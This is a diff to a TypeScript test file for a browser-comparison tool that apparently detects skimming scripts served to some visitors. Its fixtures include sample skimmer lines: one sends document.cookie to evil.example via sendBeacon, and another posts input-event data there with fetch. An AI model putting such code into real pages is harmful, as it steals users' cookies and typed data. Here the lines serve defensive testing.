@@ -3,6 +3,8 @@ import type { Capture } from '#capture/index.ts'
 import { compareClients } from '#inventory/index.ts'
 import { makeBodies, makeCapture, makeFrame, makeScript } from '../helpers/make-capture.ts'
 
+const address = (label: string) => ({ label, labelCode: { code: 'address', params: { address: label } } })
+
 type Script = Parameters<typeof makeScript>[1]
 
 const lib = { url: 'https://cdn.example/lib.js', text: 'window.lib = function (a) { return a + 1 }' }
@@ -21,14 +23,22 @@ describe('the comparison of two browsers', () => {
 
   it('finds what only the second browser was given, by its name', () => {
     expect(compareClients(visit([app]), visit([app, skimmer]))).toEqual([
-      { seenBy: 'second', scriptId: null, label: expect.stringContaining('evil.example/x.js') },
+      { seenBy: 'second', scriptId: null, ...address('evil.example/x.js') },
+    ])
+  })
+
+  it('names a script without an address by its kind and number in the visit that has it', () => {
+    const inline = { text: 'navigator.sendBeacon("https://evil.example", document.cookie)' }
+    expect(compareClients(visit([app]), visit([app, { text: 'window.a = 1' }, inline]))).toMatchObject([
+      { label: 'inline script 1 of shop.example', labelCode: { code: 'numbered', params: { kind: 'inline', number: 1 } } },
+      { label: 'inline script 2 of shop.example', labelCode: { code: 'numbered', params: { kind: 'inline', number: 2 } } },
     ])
   })
 
   it('finds what only the first browser was given, by its id there', () => {
     const first = visit([app, lib])
     expect(compareClients(first, visit([app]))).toEqual([
-      { seenBy: 'first', scriptId: first.capture.scripts[1]!.id, label: expect.stringContaining('cdn.example/lib.js') },
+      { seenBy: 'first', scriptId: first.capture.scripts[1]!.id, ...address('cdn.example/lib.js') },
     ])
   })
 
@@ -36,7 +46,7 @@ describe('the comparison of two browsers', () => {
     const first = visit([lib, app])
     const second = visit([{ ...lib, text: `${lib.text};addEventListener("input", (e) => fetch("//evil.example", { body: e.data }))` }, app])
     expect(compareClients(first, second)).toEqual([
-      { seenBy: 'both', scriptId: first.capture.scripts[0]!.id, label: expect.stringContaining('cdn.example/lib.js') },
+      { seenBy: 'both', scriptId: first.capture.scripts[0]!.id, ...address('cdn.example/lib.js') },
     ])
   })
 
@@ -83,12 +93,13 @@ describe('the comparison of two browsers', () => {
 
   it('is unsure of what only the second browser got when a visit by the first is partial', () => {
     const partial = visit([app], { outcome: { status: 'partial', code: 'timeout', detail: '', issues: [] } })
-    const label = expect.stringContaining('evil.example/x.js')
     for (const [first, again] of [
       [partial, visit([app])],
       [visit([app]), partial],
     ] as const)
-      expect(compareClients(first, visit([app, skimmer]), again)).toEqual([{ seenBy: 'second', scriptId: null, label, unsure: true }])
+      expect(compareClients(first, visit([app, skimmer]), again)).toEqual([
+        { seenBy: 'second', scriptId: null, ...address('evil.example/x.js'), unsure: true },
+      ])
   })
 
   it('concludes nothing when a visit failed', () => {
